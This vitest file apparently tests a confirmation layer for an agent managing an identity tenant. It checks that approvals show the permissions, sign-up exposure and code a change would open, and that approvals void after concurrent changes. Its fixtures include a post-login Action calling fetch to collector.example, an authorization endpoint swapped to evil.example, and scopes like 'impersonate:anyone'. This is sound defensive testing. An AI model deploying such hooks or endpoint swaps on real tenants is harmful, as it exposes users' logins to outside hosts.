/** A question names a relation, and what the relation opens: permissions, people, addresses, code. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { codeOf, textOf } from '../session.js';
import { type Args, AttackBench } from './attack-bench.js';

let bench: AttackBench;
const made: Record<string, string> = {};
beforeAll(async () => {
  bench = await AttackBench.start();
  const { at } = bench;
  const scopes = Array.from({ length: 30 }, (_, i) => ({
    value: `read:thing_${String(i).padStart(2, '0')}`,
  }));
  const dangerous = [{ value: 'delete:everything' }, { value: 'impersonate:anyone' }];
  await bench.made('POST', '/resource-servers', {
    ...{ identifier: 'https://wide.example/', name: 'Wide API' },
    scopes: [...scopes, ...dangerous],
  });
  made.wide = (await bench.made('POST', '/roles', { name: 'Support' })).id;
  await bench.made('POST', `/roles/${made.wide}/permissions`, {
    permissions: [...scopes, ...dangerous].map(({ value }) => ({
      resource_server_identifier: 'https://wide.example/',
      permission_name: value,
    })),
  });
  made.grant = (
    await bench.made('POST', '/client-grants', {
      ...{ client_id: at.client, audience: 'https://wide.example/' },
      ...{ scope: ['read:thing_01', 'delete:everything'], organization_usage: 'allow' },
    })
  ).id;
  made.code = (
    await bench.made('POST', '/actions/actions', {
      name: 'Helper',
      code: 'exports.onExecutePostLogin = async () => {\n  await fetch("https://collector.example/in");\n};',
      supported_triggers: [{ id: 'post-login', version: 'v3' }],
    })
  ).id;
  await bench.made('POST', `/actions/actions/${made.code}/deploy`);
});
afterAll(() => bench.close());

/** The lines of the section, without the code that a form puts around what is not ours. */
const opened = (message: string): string[] => {
  const lines = message.replaceAll('`', '').split('\n');
  const from = lines.findIndex((line) => line.trim() === 'What comes with it');
  if (from === -1) return [];
  const to = lines.findIndex((line, index) => index > from && line.trim() === '');
  return lines.slice(from + 1, to === -1 ? undefined : to).map((line) => line.trim());
};

describe('what a role carries', () => {
  type Case = [name: string, tool: string, args: (at: Record<string, string>) => Args];
  test.each<Case>([
    ['to a person', 'assign_user_roles', (at) => ({ user_id: at.mallory, roles: [made.wide] })],
    ['to people', 'assign_role_users', (at) => ({ role_id: made.wide, users: [at.mallory] })],
    [
      'to a member',
      'assign_organization_member_roles',
      (at) => ({ organization_id: at.organization, user_id: at.victim, roles: [made.wide] }),
    ],
    [
      'in an invitation',
      'create_organization_invitation',
      (at) => ({
        ...{ organization_id: at.organization, client_id: at.client, roles: [made.wide] },
        ...{ inviter: { name: 'Ada' }, invitee: { email: 'new@people.example' } },
      }),
    ],
    [
      'to whoever a search finds',
      'apply_to_users',
      () => ({ q: 'email:*@people.example', assign_roles: [made.wide], dry_run: false }),
    ],
    [
      'with another change',
      'apply_changes',
      (at) => ({
        why: 'x',
        changes: [
          { operation: 'update_user', arguments: { user_id: at.mallory, blocked: true } },
          { operation: 'assign_user_roles', arguments: { user_id: at.mallory, roles: [made.wide] } },
        ],
      }),
    ],
  ])('%s', async (_, tool, args) => {
    const lines = opened(await bench.asks(tool, args(bench.at)));
    const at = lines.findIndex((line) => line.startsWith(`Role "${made.wide}"`));
    expect(lines[at]).toBe(`Role "${made.wide}": "Support", permissions: 32`);
    expect(lines[at + 1]).toMatch(
      /^API "https:\/\/wide\.example\/": "impersonate:anyone", "delete:everything", "read:thing_00", .* and \d+ more$/,
    );
  });

  test('the Management API first', async () => {
    const { at } = bench;
    const lines = opened(
      await bench.asks('assign_user_roles', { user_id: at.mallory, roles: [made.wide, at.power] }),
    );
    expect(lines.slice(0, 2)).toEqual([
      `Role "${at.power}": "Attack power", permissions: 1`,
      `Management API "${at.audience}": "delete:users"`,
    ]);
  });
});

test('a grant for an organization: whose, for which API, with which scopes', async () => {
  const { at } = bench;
  const message = await bench.asks('add_organization_client_grant', {
    ...{ organization_id: at.organization, grant_id: made.grant },
  });
  expect(opened(message)).toEqual([
    `Client grant "${made.grant}"`,
    `Application: "${at.client}"`,
    'API "https://wide.example/": "delete:everything", "read:thing_01"',
  ]);
});

describe('who comes in by a connection', () => {
  const provider = ['issuer: "https://idp.example"', 'host: idp.example'];
  test('for an organization', async () => {
    const { at } = bench;
    const message = await bench.asks('add_organization_enabled_connection', {
      ...{ organization_id: at.organization, connection_id: at.connection },
      assign_membership_on_login: true,
    });
    const lines = opened(message);
    expect(lines[0]).toBe(`Connection "${at.connection}": "attacked-oidc", strategy "oidc"`);
    expect(lines).toEqual(expect.arrayContaining(provider));
    expect(lines).toContain('Sign-up: everybody who has an account at the provider');
    expect(lines).toContain('Everybody who signs in with it becomes a member of the organization');
  });

  test('for an application', async () => {
    const { at } = bench;
    const message = await bench.asks('update_connection_clients', {
      ...{ connection_id: at.database, clients: [{ client_id: at.otherClient, status: true }] },
    });
    const lines = opened(message);
    expect(lines[0]).toBe(`Connection "${at.database}": "attacked-db", strategy "auth0"`);
    expect(lines).toContain('Sign-up: open, everybody can make an account');
    expect(lines).toContain(`Application "${at.otherClient}": "Another", the tenant's own application`);
  });
});

test('the code of an Action that a trigger will run', async () => {
  const message = await bench.asks('update_action_trigger_bindings', {
    trigger_id: 'post-login',
    bindings: [{ ref: { type: 'action_name', value: 'Helper' }, display_name: 'Helper' }],
  });
  const lines = opened(message);
  expect(lines[0]).toBe(`Action "${made.code}": "Helper", version 1 runs`);
  expect(lines).toContain('Hosts: "collector.example"');
  expect(lines.join('\n')).toContain('await fetch(');
});

describe('an approval is void when by then it opens something else', () => {
  type Between = [
    string,
    string,
    (at: Record<string, string>) => Args,
    (at: Record<string, string>) => [string, string, unknown],
  ];
  test.each<Between>([
    [
      'a permission that is not even shown',
      'assign_user_roles',
      (at) => ({ user_id: at.mallory, roles: [made.wide] }),
      () => [
        'DELETE',
        `/roles/${made.wide}/permissions`,
        {
          permissions: [
            { resource_server_identifier: 'https://wide.example/', permission_name: 'read:thing_29' },
          ],
        },
      ],
    ],
    [
      'a scope of the grant',
      'add_organization_client_grant',
      (at) => ({ organization_id: at.organization, grant_id: made.grant }),
      () => ['PATCH', `/client-grants/${made.grant}`, { scope: ['read:thing_01', 'impersonate:anyone'] }],
    ],
    [
      'another provider',
      'add_organization_enabled_connection',
      (at) => ({ organization_id: at.organization, connection_id: at.connection }),
      (at) => [
        'PATCH',
        `/connections/${at.connection}`,
        {
          options: {
            ...{ type: 'back_channel', issuer: 'https://idp.example', client_id: 'x', scope: 'openid' },
            authorization_endpoint: 'https://evil.example/authorize',
            ...{ token_endpoint: 'https://idp.example/token', jwks_uri: 'https://idp.example/jwks' },
          },
        },
      ],
    ],
    [
      'sign-up',
      'update_connection_clients',
      (at) => ({ connection_id: at.database, clients: [{ client_id: at.otherClient, status: true }] }),
      (at) => ['PATCH', `/connections/${at.database}`, { options: { disable_signup: true } }],
    ],
    [
      'other code',
      'update_action_trigger_bindings',
      () => ({
        trigger_id: 'post-login',
        bindings: [{ ref: { type: 'action_id', value: made.code }, display_name: 'Helper' }],
      }),
      () => ['POST', `/actions/actions/${made.code}/deploy`, undefined],
    ],
  ])('%s', async (_, tool, args, change) => {
    const [method, path, body] = change(bench.at);
    const { outcome, sent } = await bench.approved(tool, args(bench.at), () =>
      bench.made(method, path, body),
    );
    expect(codeOf(outcome), textOf(outcome).slice(0, 400)).toBe('state_other_change');
    expect(sent).toEqual([]);
  });
});

describe('reads', () => {
  const reads = async (): Promise<string[]> => {
    const log = await bench.tenant.requests();
    return log.filter(({ method }) => method === 'GET').map(({ path }) => path);
  };

  test('a plain write costs none for it', async () => {
    const session = await bench.under();
    const before = (await reads()).length;
    expect(codeOf(await session.call('update_role', { role_id: made.wide, description: 'plain' }))).toBe(
      'ok',
    );
    expect((await reads()).slice(before).filter((path) => path.includes('/permissions'))).toEqual([]);
  });
});
